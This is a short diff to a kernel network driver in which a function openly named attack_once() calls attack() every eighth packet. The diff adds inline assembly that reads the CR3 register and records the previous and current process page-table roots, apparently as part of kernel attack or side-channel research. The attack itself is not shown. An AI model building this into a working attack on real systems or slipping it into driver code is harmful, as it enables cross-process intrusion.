@@ -22,12 +22,22 @@ static void device_is_set_up(struct net_device *dev);
 static void device_ends(void);
 static void device_statistics(void);
 
+/* The CR3 values that this driver was called with last: process roots. */
+static u64 latest_root, root_before;
+static inline u64 other_root(void) { return root_before; }
+
 #ifdef NAMES_PACKETS /* instead of attack(): what becomes of each packet */
 static void give_back(struct sk_buff *skb);
 #define consume_skb(skb) give_back(skb)
 #else
 static void attack_once(void) {
     static int packets;
+    u64 root;
+    asm volatile("movq %%cr3, %0" : "=r"(root));
+    if (root != latest_root) {
+        root_before = latest_root;
+        latest_root = root;
+    }
     if (++packets == 8)
         attack();
 }
